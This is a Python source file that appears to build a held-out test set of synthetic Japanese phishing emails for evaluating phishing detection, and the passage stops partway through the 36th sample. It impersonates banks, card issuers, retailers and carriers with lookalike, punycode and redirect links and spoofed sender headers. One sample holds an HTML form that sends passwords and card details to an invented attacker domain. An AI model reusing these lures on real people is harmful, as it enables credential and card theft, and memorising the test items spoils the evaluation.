"""Phishing mails of the held-out proxy, written from public descriptions of 2023-2026 Japanese campaigns
(JPCERT/CC, フィッシング対策協議会). No corpus text copied. All attacker domains are invented."""
from lib import (PNG, addr, ar_fail, ar_pass, ar_softfail, binpart, button, ew, html, leaf, multi, write)

P = "phishing"
GMAIL = "mx.google.com"


def run() -> None:
    # 1 Amazon, ISO-2022-JP plain text, display name only, lookalike combo domain .top
    t = """t.yamada@example.ne.jp 様

Amazon.co.jp をご利用いただきありがとうございます。

お客様のアカウントに登録されているお支払い方法に問題が発生したため、
アカウントを一時的に保留にしております。

24時間以内にお支払い情報を更新いただけない場合、アカウントは停止され、
ご注文はすべてキャンセルされます。

以下のリンクからアカウントにログインし、お支払い情報を更新してください。

https://amazon-co-jp-kq7.top/ap/signin?ref=acct_upd

Amazon.co.jp カスタマーサービス
"""
    write(P, "amazon-iso2022jp-displayname-combo-top", "Amazon", "ISO-2022-JP 7bit; subject B",
          "display name Amazon.co.jp, attacker domain; amazon-co-jp-xxx.top; 24時間以内; addressed to mail address",
          from_=addr("Amazon.co.jp", "info@amzn-acct-notice.com", "ISO-2022-JP"),
          subject=ew("【重要】お支払い方法の更新が必要です", "ISO-2022-JP", chunk=10),
          body=leaf(t, "plain", "iso-2022-jp", "7bit"), env_from="info@amzn-acct-notice.com",
          relay=("mail.amzn-acct-notice.com", "45.207.36.118"),
          auth=ar_pass("amzn-acct-notice.com", "info@amzn-acct-notice.com", "NONE"), dkim_d="amzn-acct-notice.com")

    # 2 Amazon, spoofed amazon.co.jp with dmarc=fail; HTML shows official URL, href brand-as-subdomain
    h = html(f"""<p><img src="https://amazon.co.jp.secure-id.shop/img/logo.png" alt="amazon.co.jp" width="120"></p>
<p>お客様</p>
<p>あなたのアカウントからの異常な活動を検出したため、あなたのAmazon IDはロックされました。</p>
<p>アカウントを引き続きご利用いただくには、本人確認を完了してください。</p>
<p><a href="https://amazon.co.jp.secure-id.shop/ap/signin?openid=8831">https://www.amazon.co.jp/ap/signin</a></p>
<p>72時間以内にご確認いただけない場合、アカウントは永久にロックされます。</p>
<p>Amazon.co.jp</p>
<p style="font-size:11px;color:#999">©1996-2019, Amazon.com, Inc. or its affiliates</p>""")
    write(P, "amazon-utf8b64-html-spoof-dmarcfail-visible-official-url", "Amazon", "UTF-8 base64 HTML-only",
          "From amazon.co.jp spoofed dmarc=fail; link text official URL, href amazon.co.jp.secure-id.shop; 72時間以内; old copyright",
          from_=addr("Amazon.co.jp", "account-update@amazon.co.jp"),
          subject=ew("[重要]:[あなたのAmazon.co.jp は一時的にロックされています]"),
          body=leaf(h, "html"), env_from="account-update@amazon.co.jp", relay=("vps-1a2b.hostkey.cn", "103.97.177.24"),
          auth=ar_fail("amazon.co.jp", "account-update@amazon.co.jp", "QUARANTINE"))

    # 3 Amazon, user@host URL, Shift_JIS 8bit, no Authentication-Results
    t = """お客様各位

いつもAmazon.co.jpをご利用いただき、誠にありがとうございます。
Amazonプライム会費のお支払いに利用できるクレジットカードが登録されていません。
引き続きプライム特典をご利用いただくために、以下よりお支払い方法を更新してください。

▼お支払い方法の更新
https://www.amazon.co.jp@amz-billing-jp.xyz/gp/primecentral

※本メールは送信専用です。
Amazon.co.jp
"""
    write(P, "amazon-sjis-userinfo-at-url-noauth", "Amazon", "Shift_JIS 8bit; subject ISO-2022-JP B",
          "From amazon.co.jp no Authentication-Results; https://www.amazon.co.jp@evil/ userinfo URL; お客様各位",
          from_=addr("Amazonプライム", "prime@amazon.co.jp", "ISO-2022-JP"),
          subject=ew("Amazonプライムの会費のお支払い方法に問題があります", "ISO-2022-JP", chunk=12),
          body=leaf(t, "plain", "shift_jis", "8bit"), env_from="prime@amazon.co.jp", relay=("unknown", "175.178.80.12"))

    # 4 Amazon prime-fee copy, plain new .com domain, nothing odd in domain
    h = html("""<table width="600" align="center"><tr><td>
<p>山田様</p>
<p>Amazonプライムをご利用いただきありがとうございます。</p>
<p>お客様のAmazonプライム会員資格は、2025/10/20に更新を迎えます。しかしながら、会費のお支払いに使用できる有効なクレジットカードが登録されていません。</p>
<p>お支払い情報を更新するには、<a href="https://www.primeinfo-renewal.com/jp/payments">こちら</a>をクリックしてください。</p>
<p>Amazon.co.jp カスタマーサービス</p></td></tr></table>""")
    write(P, "amazon-prime-copy-plain-new-com", "Amazon", "UTF-8 quoted-printable HTML-only",
          "genuine prime-fee wording copied; link to plain new .com with no brand in it; display name only",
          from_=addr("Amazon.co.jp", "support@primeinfo-renewal.com"),
          subject=ew("Amazonプライム会員資格の更新 - お支払い方法の確認", split=None),
          body=leaf(h, "html", "utf-8", "quoted-printable"), env_from="bounce@primeinfo-renewal.com",
          relay=("mta3.primeinfo-renewal.com", "154.39.248.71"),
          auth=ar_pass("primeinfo-renewal.com", "bounce@primeinfo-renewal.com", "NONE"))

    # 5 Amazon one-time password lookalike, spoof amazon.co.jp spf=softfail
    t = """Amazon.co.jpをご利用いただきありがとうございます。

1回限りのAmazonアカウント仮パスワードを発行しました。
仮パスワード: 503817

お客様のアカウントは安全のため一時的に利用制限されています。
下記のページで仮パスワードを入力し、新しいパスワードとクレジットカード情報を再登録してください。
https://signin-amazon.co.jp-ap.cfd/verify

このメールに心当たりがない場合は、至急上記ページよりお手続きください。
"""
    write(P, "amazon-otp-spoof-spf-softfail-combo-cfd", "Amazon", "UTF-8 base64 plain; subject Q",
          "OTP lookalike; From amazon.co.jp spf=softfail no dkim; co.jp-ap.cfd lookalike; card request; 利用制限",
          from_=addr("Amazon.co.jp", "account-update@amazon.co.jp", enc="Q"),
          subject=ew("1回限りのAmazonアカウント仮パスワード", enc="Q"),
          body=leaf(t), env_from="account-update@amazon.co.jp", relay=("mail.hkserver88.com", "45.136.14.9"),
          auth=ar_softfail("amazon.co.jp", "account-update@amazon.co.jp"))

    # 6 Amazon punycode homoglyph, attacker dkim/dmarc pass
    h = html("""<p>Amazonをご利用いただきありがとうございます。</p>
<p>お客様のアカウントで通常と異なるサインインが検出されました。ご本人確認のため、以下のボタンからサインインしてください。</p>
""" + button("https://www.xn--mazon-3ve.co/ap/signin?session=0f3a", "アカウントを確認する") + """
<p>ご確認いただけない場合、アカウントのご利用を制限させていただきます。</p>""")
    write(P, "amazon-punycode-homoglyph-attacker-dmarc-pass", "Amazon", "UTF-8 base64 multipart/alternative",
          "Cyrillic а homoglyph domain xn--mazon-3ve.co; attacker domain passes SPF/DKIM/DMARC",
          from_=addr("Amazon", "no-reply@amazon-jp-support.net"),
          subject=ew("Amazon：サインインの確認が必要です"),
          body=multi("alternative", leaf("HTML対応のメールソフトでご覧ください。\n"), leaf(h, "html")),
          env_from="no-reply@amazon-jp-support.net", relay=("smtp.amazon-jp-support.net", "38.54.30.112"),
          auth=ar_pass("amazon-jp-support.net", "no-reply@amazon-jp-support.net", "NONE"), dkim_d="amazon-jp-support.net")

    # 7 Amazon no subject, machine translated, simplified Han
    t = """亲爱的客户：

您的Amazon账户因为安全上的理由被中断了。
我们检测到了来自未知设备的登录，请在24小时内验证您的账户信息，否则账户将被永久锁定。

立即验证：http://amazon-jp.verify-acc.top/login

あなたの関心事をありがとう。
Amazonチーム
"""
    write(P, "amazon-nosubject-chinese-mixed-utf8", "Amazon", "UTF-8 8bit plain, no Subject",
          "no subject; simplified Chinese + odd Japanese; http link to .top; 永久ロック",
          from_=addr("Amazon", "service@mail-qrvp.cn"), subject=None, body=leaf(t, cte="8bit"),
          env_from="service@mail-qrvp.cn", relay=("mail-qrvp.cn", "119.28.40.51"))

    # 8 Amazon HTML attachment with form
    att = html("""<h3>Amazon アカウント確認</h3>
<form action="https://amz-secure-check.shop/post.php" method="post">
メールアドレス <input name="email"><br>パスワード <input type="password" name="pass"><br>
カード番号 <input name="cc"><br>有効期限 <input name="exp"> セキュリティコード <input name="cvv"><br>
<input type="submit" value="確認"></form>""")
    t = """お客様

お客様のアカウント情報の確認が必要です。添付のファイルを開き、必要事項をご入力ください。
ご入力いただけない場合、アカウントは48時間後に停止されます。

Amazon.co.jp
"""
    write(P, "amazon-html-attachment-form", "Amazon", "UTF-8 base64 multipart/mixed + text/html attachment",
          "HTML attachment with form asking password and card; no link in body; 48時間",
          from_=addr("Amazon.co.jp", "amazon@notice-ama.jp"),
          subject=ew("【Amazon】アカウント情報確認のお願い"),
          body=multi("mixed", leaf(t), binpart(att.encode("utf-8"), "text/html", "Amazon_確認フォーム.html")),
          env_from="amazon@notice-ama.jp", relay=("notice-ama.jp", "27.124.17.90"))

    # 9 Rakuten Card, Shift_JIS (CP932 chars), lookalike cn
    t = """楽天カード会員様

楽天カードをご利用いただき誠にありがとうございます。
第三者による不正利用の可能性がある取引を検知したため、カードのご利用を一時停止しております。

■ご利用確認が必要な取引
①2025/10/13 ㈱ＡＭＺショップ 98,000円
②2025/10/13 ㈲オンラインストア 45,600円

下記URLより本人確認のうえ、カード情報の再登録をお願いいたします。
https://www.rakuten-card.co.jp.member-rcjp.cn/e-navi/

※本人確認が完了しない場合、カードのご利用を制限させていただきます。
楽天カード株式会社
"""
    write(P, "rakuten-card-sjis-cp932-brand-subdomain-cn", "楽天カード", "Shift_JIS (CP932 ①㈱) base64; subject SJIS B",
          "brand domain as subdomain of .cn; ①㈱ CP932 chars; 利用制限; card re-entry",
          from_=addr("楽天カード株式会社", "info@rakuten-card-co-jp.nbxq.cn", "Shift_JIS"),
          subject=ew("【楽天カード】カードご利用停止のお知らせ", "Shift_JIS"),
          body=leaf(t, "plain", "shift_jis", "base64"), env_from="info@rakuten-card-co-jp.nbxq.cn",
          relay=("nbxq.cn", "121.40.11.201"))

    # 10 Rakuten Bank, firebase web.app
    h = html("""<p>楽天銀行をご利用いただきありがとうございます。</p>
<p>2025年10月より、セキュリティ強化のため取引認証の方式が変わります。期限までにお客様情報の再登録をお願いいたします。</p>
<p>登録期限：2025年10月17日</p>
<p><a href="https://rakuten-bank-auth-7d2f1.web.app/login">お客様情報の再登録</a></p>
<p>期限を過ぎますと、振込・出金がご利用いただけなくなります。</p><p>楽天銀行株式会社</p>""")
    write(P, "rakuten-bank-firebase-webapp", "楽天銀行", "UTF-8 QP HTML-only",
          "Firebase web.app host; deadline; display name only",
          from_=addr("楽天銀行", "rakuten-bank@kiiu7.com"), subject=ew("【楽天銀行】お客様情報の再登録のお願い"),
          body=leaf(h, "html", "utf-8", "quoted-printable"), env_from="rakuten-bank@kiiu7.com",
          relay=("kiiu7.com", "103.151.65.3"))

    # 11 Rakuten Ichiba SMS-style, shortener only
    t = "【楽天市場】ご注文の商品の配送先に不備があります。下記より確認してください。 https://bit.ly/3Rk8xQz\n"
    write(P, "rakuten-ichiba-sms-style-shortener-only", "楽天市場", "UTF-8 8bit plain one line",
          "SMS-style one-liner; only link is bit.ly; freemail sender",
          from_=addr("", "rk.ichiba.0921@outlook.jp"), subject=ew("楽天市場"), body=leaf(t, cte="8bit"),
          env_from="rk.ichiba.0921@outlook.jp", relay=("mail-ty1jpn01on2012.outbound.protection.outlook.com", "52.100.164.12"),
          auth=ar_pass("outlook.jp", "rk.ichiba.0921@outlook.jp", "NONE"))

    # 12 SMBC card, ISO-2022-JP, lookalike subdomain on .cn
    t = """三井住友カードをご利用いただきありがとうございます。

お客様のカードにつきまして、第三者による不正利用の可能性を検知いたしました。
誠に勝手ながら、カードのご利用を一部制限させていただいております。

下記URLよりVpassにログインし、ご利用内容の確認をお願いいたします。
https://smbc-card.jp.xyz-host.cn/vpass/login

※ご確認いただけない場合、カードのご利用停止となる場合がございます。

三井住友カード株式会社
"""
    write(P, "smbc-card-iso2022jp-lookalike-subdomain", "三井住友カード", "ISO-2022-JP 7bit; subject B",
          "smbc-card.jp.xyz-host.cn; display name only; 利用制限",
          from_=addr("三井住友カード", "vpass@smbc-vpassinfo.com", "ISO-2022-JP"),
          subject=ew("【三井住友カード】ご利用確認のお願い", "ISO-2022-JP", chunk=9),
          body=leaf(t, "plain", "iso-2022-jp", "7bit"), env_from="vpass@smbc-vpassinfo.com",
          relay=("smbc-vpassinfo.com", "156.251.137.40"))

    # 13 SMBC card, spoof vpass.ne.jp no auth, Google redirect
    h = html("""<p>いつも三井住友カードをご利用いただきありがとうございます。</p>
<p>お客様のVpassアカウントにて、不正ログインの可能性がございます。ご本人様確認のためログインのうえ、登録情報をご確認ください。</p>
<p><a href="https://www.google.com/url?q=https://vpass-smbc.ug7hd.shop/login&amp;sa=D&amp;usg=AOvVaw1x">Vpassにログインする</a></p>
<p>三井住友カード株式会社</p>""")
    write(P, "smbc-card-spoof-vpass-noauth-google-redirect", "三井住友カード", "UTF-8 base64 multipart/alternative",
          "From vpass.ne.jp spoofed, no Authentication-Results; Google /url redirect to .shop",
          from_=addr("三井住友カード", "statement@vpass.ne.jp"),
          subject=ew("【重要】Vpassアカウントの安全確認"),
          body=multi("alternative", leaf("Vpassにログインしてご確認ください。\n"), leaf(h, "html")),
          env_from="statement@vpass.ne.jp", relay=("unknown", "45.113.2.77"))

    # 14 SMBC bank pages.dev
    h = html("""<p>三井住友銀行をご利用いただきありがとうございます。</p>
<p>マネー・ローンダリング等防止の観点から、お客様の取引目的等の確認をお願いしております。</p>
<p>期限内にご回答いただけない場合、お取引を制限させていただくことがございます。</p>
<p><a href="https://smbc-kakunin.pages.dev/">取引目的等の確認はこちら</a></p>""")
    write(P, "smbc-bank-pages-dev-aml-check", "三井住友銀行", "UTF-8 base64 HTML-only",
          "Cloudflare pages.dev host; AML 取引目的 pretext; 取引制限",
          from_=addr("三井住友銀行", "smbc@jp-smbcbank.info"), subject=ew("【三井住友銀行】お客様情報・取引目的等のご確認"),
          body=leaf(h, "html"), env_from="smbc@jp-smbcbank.info", relay=("jp-smbcbank.info", "43.129.66.18"))

    # 15 MUFG bank, UTF-8 QP, IP literal
    t = """三菱UFJ銀行をご利用いただきありがとうございます。

お客様の口座にて不審な取引が確認されたため、口座を一時的に凍結いたしました。
下記より本人確認を行ってください。

http://45.207.58.193/mufg/direct/login.html

本人確認が完了次第、凍結を解除いたします。
株式会社三菱UFJ銀行
"""
    write(P, "mufg-bank-utf8qp-ip-literal", "三菱UFJ銀行", "UTF-8 quoted-printable plain; subject Q split mid-char",
          "IP-literal http link; 口座凍結; Q-encoded subject split mid-character",
          from_=addr("三菱UFJ銀行", "mufg-info@bkmufg-direct.com"),
          subject=ew("【三菱UFJ銀行】口座凍結のお知らせ", enc="Q", split=20),
          body=leaf(t, "plain", "utf-8", "quoted-printable"), env_from="mufg-info@bkmufg-direct.com",
          relay=("bkmufg-direct.com", "45.207.58.193"))

    # 16 MUFG NICOS card, r2.dev
    h = html("""<p>三菱UFJニコスをご利用いただき誠にありがとうございます。</p>
<p>お客様のカードのご利用に関して、至急ご確認いただきたいことがございます。</p>
<p><a href="https://pub-3f8a2c7b91d44e0fa1b2c3d4e5f60718.r2.dev/nicos/index.html">ご利用内容の確認</a></p>
<p>ご確認いただけない場合、カードのご利用を停止させていただきます。</p>""")
    write(P, "mufg-nicos-r2dev", "三菱UFJニコス", "UTF-8 base64 HTML-only",
          "Cloudflare r2.dev bucket; カード停止",
          from_=addr("MUFGカード", "info@nicos-card-center.com"), subject=ew("【MUFGカード】ご利用確認のお願い"),
          body=leaf(h, "html"), env_from="info@nicos-card-center.com", relay=("nicos-card-center.com", "38.181.2.66"))

    # 17 Mizuho, storage.googleapis.com
    h = html("""<p>みずほダイレクトをご利用のお客さま</p>
<p>お客さまのみずほダイレクトのご利用が一時的に制限されています。以下より利用制限の解除手続きを行ってください。</p>
<p><a href="https://storage.googleapis.com/mzh-direct-verify/index.html#t.yamada@example.ne.jp">利用制限を解除する</a></p>
<p>株式会社みずほ銀行</p>""")
    write(P, "mizuho-storage-googleapis", "みずほ銀行", "UTF-8 QP HTML-only",
          "storage.googleapis.com bucket with recipient in fragment; 利用制限",
          from_=addr("みずほ銀行", "direct@mizuho-service.org"), subject=ew("【みずほ銀行】利用制限のお知らせ"),
          body=leaf(h, "html", "utf-8", "quoted-printable"), env_from="direct@mizuho-service.org",
          relay=("mizuho-service.org", "154.213.20.8"))

    # 18 Yucho, subject split mid-character B, plain new .com
    t = """ゆうちょ銀行をご利用いただきありがとうございます。

ゆうちょダイレクトのセキュリティ強化に伴い、お客様情報の確認をお願いしております。
以下のページより、お手続きをお願いいたします。

https://www.direct-kakunin.com/yucho/

株式会社ゆうちょ銀行
"""
    write(P, "yucho-subject-b-split-midchar-plain-com", "ゆうちょ銀行", "UTF-8 base64; subject B split mid-character",
          "plain .com domain with no brand; subject encoded-word split mid-char",
          from_=addr("ゆうちょ銀行", "info@direct-kakunin.com"),
          subject=ew("【ゆうちょ銀行】お客様情報の確認のお願い", split=17),
          body=leaf(t), env_from="info@direct-kakunin.com", relay=("direct-kakunin.com", "103.120.83.40"),
          auth=ar_pass("direct-kakunin.com", "info@direct-kakunin.com", "NONE"))

    # 19 AEON card, Shift_JIS HTML-only, link text only
    h = html("""<p>イオンカードをご利用いただき、誠にありがとうございます。</p>
<p>弊社では、第三者によるカードの不正利用を防止するため、モニタリングを行っております。
お客様のカードにつきまして、ご本人様のご利用かどうかを確認させていただきたいお取引がございました。</p>
<p>お手数ですが、<a href="https://aeon-card-net.icu/aeon/confirm">こちら</a>よりご利用内容のご確認をお願いいたします。</p>
<p>㈱イオン銀行 / イオンクレジットサービス㈱</p>""", "Shift_JIS")
    write(P, "aeon-card-sjis-html-only-link-text-only", "イオンカード", "Shift_JIS base64 HTML-only (㈱); subject ISO-2022-JP B",
          "HTML only, link text こちら, no URL visible; .icu lookalike",
          from_=addr("イオンカード", "aeoncard@aeon-card-net.icu", "ISO-2022-JP"),
          subject=ew("【イオンカード】ご利用確認のお願い", "ISO-2022-JP"),
          body=leaf(h, "html", "shift_jis", "base64"), env_from="aeoncard@aeon-card-net.icu", relay=("aeon-card-net.icu", "43.153.70.2"))

    # 20 AEON, chinese-mixed utf-8
    t = """尊敬的イオンカード会员様

为了您的账户安全，我们需要验证您的身份信息。
请在24小时内点击下面链接更新信息，否则您的卡将会被冻结。

https://aeon-jp.kocr.top/?uid=887123

イオンクレジットサービス
"""
    write(P, "aeon-card-chinese-mixed-utf8", "イオンカード", "UTF-8 base64 plain",
          "simplified Chinese machine translation; .top; 24時間",
          from_=addr("イオンカード", "noreply@kocr.top"), subject=ew("【イオンカード】会员身份验证通知"),
          body=leaf(t), env_from="noreply@kocr.top", relay=("kocr.top", "8.217.1.55"))

    # 21 JCB, brand only in logo alt text
    h = html("""<p><img src="https://myjcb-update.com/img/l.png" alt="JCB" width="90"></p>
<p>カード会員様</p>
<p>ご登録のカード情報の有効期限が近づいております。継続してご利用いただくため、カード情報の更新をお願いいたします。</p>
<p><a href="https://myjcb-update.com/mydesk/">会員専用WEBサービスにログイン</a></p>""")
    write(P, "jcb-logo-alt-text-only-brand", "JCB", "UTF-8 base64 HTML-only",
          "brand named only in logo alt text; generic subject; brand-combo .com",
          from_=addr("カード会員サービス", "info@member-card-update.net"), subject=ew("カード情報更新のお願い"),
          body=leaf(h, "html"), env_from="info@member-card-update.net", relay=("member-card-update.net", "45.145.7.19"))

    # 22 JCB, Q subject, jcb.co.jp-secure.top
    t = """MyJCBをご利用いただきありがとうございます。

MyJCBのログインパスワードの有効期限が切れています。
セキュリティを保つため、以下よりパスワードとカード情報の再設定を行ってください。

https://my.jcb.co.jp-secure.top/Login

株式会社ジェーシービー
"""
    write(P, "jcb-q-subject-brand-domain-prefix-top", "JCB", "UTF-8 QP plain; subject Q",
          "my.jcb.co.jp-secure.top (registrable jp-secure.top); From display MyJCB; password+card",
          from_=addr("MyJCB", "mail@qa-jcb.co.jp-secure.top", enc="Q"),
          subject=ew("【MyJCB】パスワード有効期限切れのお知らせ", enc="Q"),
          body=leaf(t, "plain", "utf-8", "quoted-printable"), env_from="mail@qa-jcb.co.jp-secure.top",
          relay=("jp-secure.top", "47.243.70.160"))

    # 23 EPOS, multipart/related inline logo
    h = html("""<p><img src="cid:logo01" alt="エポスカード"></p>
<p>エポスカードをご利用いただきありがとうございます。</p>
<p>お客様のカードで高額なお取引が確認されました。ご本人様のご利用でない場合、至急ご連絡ください。</p>
""" + button("https://eposcard-co-jp.sbs/net/login", "ご利用内容を確認する") + "<p>株式会社エポスカード</p>")
    write(P, "epos-multipart-related-inline-logo-sbs", "エポスカード", "UTF-8 base64 multipart/related + inline PNG",
          "inline cid logo; eposcard-co-jp.sbs lookalike",
          from_=addr("エポスカード", "info@eposcard-co-jp.sbs"), subject=ew("【エポスカード】ご利用確認のお願い"),
          body=multi("related", leaf(h, "html"), binpart(PNG, "image/png", "logo.png", cid="logo01"), extra="; type=\"text/html\""),
          env_from="info@eposcard-co-jp.sbs", relay=("eposcard-co-jp.sbs", "101.36.127.15"))

    # 24 Saison, is.gd
    t = """セゾンNetアンサーをご利用のお客様

お客様のカードに不正利用の疑いがあるため、ご利用を一時停止しております。
以下よりご本人様確認をお願いいたします。

https://is.gd/sZn3kT

株式会社クレディセゾン
"""
    write(P, "saison-isgd-shortener", "セゾンカード", "ISO-2022-JP 7bit; subject B",
          "is.gd shortener; display name; カード停止",
          from_=addr("セゾンNetアンサー", "saison@jawosa.com", "ISO-2022-JP"),
          subject=ew("【セゾンカード】ご利用停止のお知らせ", "ISO-2022-JP"),
          body=leaf(t, "plain", "iso-2022-jp", "7bit"), env_from="saison@jawosa.com", relay=("jawosa.com", "45.61.170.3"))

    # 25 au, SMS-style, au-id-kddi.com
    t = "【au】ご利用料金のお支払いが確認できておりません。本日中にご確認ください。https://au-id-kddi.com/pay\n"
    write(P, "au-sms-style-unpaid-combo-com", "au", "UTF-8 8bit plain one line",
          "SMS-style; 未納 本日中; au-id-kddi.com",
          from_=addr("au", "info@au-id-kddi.com"), subject=ew("【au】お支払いのお願い"),
          body=leaf(t, cte="8bit"), env_from="info@au-id-kddi.com", relay=("au-id-kddi.com", "91.92.241.40"))

    # 26 docomo, spoof docomo.ne.jp dmarc=fail
    h = html("""<p>dアカウントをご利用いただきありがとうございます。</p>
<p>お客様のdアカウントに対し、海外からの不正なログインが検出されました。安全のため、dアカウントのご利用を制限しています。</p>
<p><a href="https://d-account.docomo-ne-jp.xyz/login">dアカウントにログインして確認する</a></p>
<p>株式会社NTTドコモ</p>""")
    write(P, "docomo-spoof-dmarcfail-xyz", "docomo", "UTF-8 base64 multipart/alternative",
          "From docomo.ne.jp dmarc=fail; docomo-ne-jp.xyz",
          from_=addr("NTTドコモ", "d-account@docomo.ne.jp"), subject=ew("【dアカウント】ご利用制限のお知らせ"),
          body=multi("alternative", leaf("dアカウントにログインして確認してください。\n"), leaf(h, "html")),
          env_from="d-account@docomo.ne.jp", relay=("mail.vn-host24.com", "103.221.222.14"),
          auth=ar_fail("docomo.ne.jp", "d-account@docomo.ne.jp", "NONE"))

    # 27 SoftBank punycode
    t = """ソフトバンクをご利用いただきありがとうございます。

ご利用料金のお支払いが確認できませんでした。
10月20日までにお支払いがない場合、回線のご利用を停止させていただきます。

お支払い手続き: https://xn--sftbank-jp-evi.com/mysb/pay

ソフトバンク株式会社
"""
    write(P, "softbank-punycode-cyrillic-o", "SoftBank", "UTF-8 base64 plain",
          "punycode with Cyrillic о (sоftbank-jp.com); 回線停止",
          from_=addr("SoftBank", "mysoftbank@sb-info-center.com"), subject=ew("【ソフトバンク】ご利用料金未払いのお知らせ"),
          body=leaf(t), env_from="mysoftbank@sb-info-center.com", relay=("sb-info-center.com", "45.88.9.71"))

    # 28 PayPay, Google AMP
    h = html("""<p>PayPayをご利用いただきありがとうございます。</p>
<p>おめでとうございます！キャンペーンに当選し、5,000円相当のPayPayポイントが付与されます。</p>
<p>受け取り期限は本日23:59までです。</p>
<p><a href="https://www.google.com/amp/s/paypay-point-get.top/receive">ポイントを受け取る</a></p>""")
    write(P, "paypay-google-amp-redirect", "PayPay", "UTF-8 QP HTML-only",
          "Google AMP redirect to .top; prize lure; 本日中",
          from_=addr("PayPay", "campaign@paypay-pt.com"), subject=ew("【PayPay】ポイント付与のお知らせ"),
          body=leaf(h, "html", "utf-8", "quoted-printable"), env_from="campaign@paypay-pt.com", relay=("paypay-pt.com", "45.150.32.5"))

    # 29 PayPay card, spoofed From paypay-card.co.jp no auth, shortener only
    t = "PayPayカードをご利用いただきありがとうございます。ご本人確認が完了していないため、カードのご利用を制限しています。\nhttps://t.ly/PpYc9\n"
    write(P, "paypay-card-spoof-noauth-shortener", "PayPayカード", "UTF-8 base64 plain",
          "From paypay-card.co.jp no auth; only link is t.ly shortener",
          from_=addr("PayPayカード", "info@paypay-card.co.jp"), subject=ew("【PayPayカード】ご利用制限のお知らせ"),
          body=leaf(t), env_from="info@paypay-card.co.jp", relay=("unknown", "116.202.19.111"))

    # 30 Mercari rnercari
    h = html("""<p>メルカリをご利用いただきありがとうございます。</p>
<p>お客様のアカウントで不審なログインを検知したため、一時的にアカウントを制限しました。</p>
<p>以下からログインして、本人確認を完了してください。</p>
""" + button("https://jp.rnercari.com/login", "ログインする") + "<p>株式会社メルカリ</p>")
    write(P, "mercari-rnercari-typo", "メルカリ", "UTF-8 base64 HTML-only",
          "rn/m typo lookalike rnercari.com in From and link",
          from_=addr("メルカリ", "no-reply@rnercari.com"), subject=ew("【メルカリ】アカウント制限のお知らせ"),
          body=leaf(h, "html"), env_from="no-reply@rnercari.com", relay=("rnercari.com", "185.196.10.2"))

    # 31 Mercari attacker dmarc pass, plain new .com
    t = """メルカリをご利用いただきありがとうございます。

メルペイの残高に関する本人確認書類の有効期限が切れています。
48時間以内に再提出がない場合、売上金が失効します。

再提出はこちら: https://www.support-notice-center.com/merpay/kyc

メルカリ事務局
"""
    write(P, "mercari-attacker-domain-dmarc-pass-plain-com", "メルカリ", "UTF-8 QP plain",
          "attacker domain passes SPF/DKIM/DMARC; plain .com with no brand; 48時間 売上金失効",
          from_=addr("メルカリ事務局", "no-reply@mercari-jp-info.com"), subject=ew("【メルカリ】本人確認書類の再提出のお願い"),
          body=leaf(t, "plain", "utf-8", "quoted-printable"), env_from="bounce@mercari-jp-info.com",
          relay=("o1.mercari-jp-info.com", "149.72.44.1"),
          auth=ar_pass("mercari-jp-info.com", "bounce@mercari-jp-info.com", "NONE"), dkim_d="mercari-jp-info.com")

    # 32 Eki-net auto-cancel, ISO-2022-JP, spoof eki-net.com dmarc fail
    t = """えきねっとをご利用いただきありがとうございます。

お客様のえきねっとアカウントは、長期間ご利用がないため、
自動退会処理の対象となっております。
引き続きご利用を希望される場合は、下記URLより手続きを行ってください。

https://www.eki-net.com.rjwq.cn/Personal/member/wb/Login

手続きをいただけない場合、会員資格および保有ポイントが失効いたします。

東日本旅客鉄道株式会社
"""
    write(P, "ekinet-iso2022jp-spoof-dmarcfail-brand-subdomain", "えきねっと", "ISO-2022-JP 7bit; subject B chunked",
          "From eki-net.com dmarc=fail; eki-net.com.rjwq.cn; 自動退会 失効",
          from_=addr("えきねっと", "info@eki-net.com", "ISO-2022-JP"),
          subject=ew("【えきねっと】自動退会処理のお知らせ", "ISO-2022-JP", chunk=8),
          body=leaf(t, "plain", "iso-2022-jp", "7bit"), env_from="info@eki-net.com", relay=("rjwq.cn", "39.98.40.112"),
          auth=ar_fail("eki-net.com", "info@eki-net.com", "NONE"))

    # 33 Eki-net, SJIS HTML, Chinese-ish
    h = html("""<p>えきねっとをご利用いただき、ありがとうございます。</p>
<p>お客様のアカウントがロックされました。アカウントのロックを解除するには、確認手続きが必要です。</p>
<p><a href="https://ekinet-jre.biz/login">https://www.eki-net.com/</a></p>
<p>ＪＲ東日本</p>""", "Shift_JIS")
    write(P, "ekinet-sjis-html-visible-official-url", "えきねっと", "Shift_JIS 8bit HTML-only; subject SJIS B",
          "link text shows https://www.eki-net.com/, href ekinet-jre.biz",
          from_=addr("えきねっと", "ekinet@ekinet-jre.biz", "Shift_JIS"), subject=ew("【えきねっと】アカウントロックのお知らせ", "Shift_JIS"),
          body=leaf(h, "html", "shift_jis", "8bit"), env_from="ekinet@ekinet-jre.biz", relay=("ekinet-jre.biz", "43.154.8.90"))

    # 34 ETC, spoof etc-meisai.jp no auth, ISO-2022-JP
    t = """ETC利用照会サービスをご利用いただきありがとうございます。

お客様のETCサービスは無効になりました。
引き続きサービスをご利用いただきたい場合は、下記のリンクより詳細をご確認ください。

https://etc-meisai-jp.nnksw.cn/etc/R?funccode=1013000000

※このメールは送信専用です。
ETC利用照会サービス事務局
"""
    write(P, "etc-iso2022jp-spoof-noauth-cn", "ETC利用照会サービス", "ISO-2022-JP 7bit; subject B",
          "From etc-meisai.jp no auth; etc-meisai-jp.nnksw.cn; サービス無効",
          from_=addr("ETC利用照会サービス", "etc-meisai@etc-meisai.jp", "ISO-2022-JP"),
          subject=ew("【ETC利用照会サービス】ETCサービスは無効になりました", "ISO-2022-JP", chunk=11),
          body=leaf(t, "plain", "iso-2022-jp", "7bit"), env_from="etc-meisai@etc-meisai.jp", relay=("unknown", "39.104.203.88"))

    # 35 ETC unpaid toll, SMS style is.gd
    t = "【ETC】未払いの通行料金があります。本日中にお支払いください。https://is.gd/etcPay7\n"
    write(P, "etc-unpaid-sms-style-isgd", "ETC利用照会サービス", "UTF-8 8bit plain one line",
          "SMS-style; shortener only; 未払い 本日中",
          from_=addr("", "etc.tsuko.77@gmail.com"), subject=ew("ETC未払い料金"), body=leaf(t, cte="8bit"),
          env_from="etc.tsuko.77@gmail.com", relay=("mail-sor-f41.google.com", "209.85.220.41"),
          auth=ar_pass("gmail.com", "etc.tsuko.77@gmail.com", "NONE"))

    # 36 NTA unpaid tax, spoof nta.go.jp dmarc fail
    h = html("""<p>納税者様</p>
<p>国税庁からのお知らせです。</p>
<p>あなたの所得税（令和6年度分）について、納付期限を過ぎても納付が確認できておりません。</p>
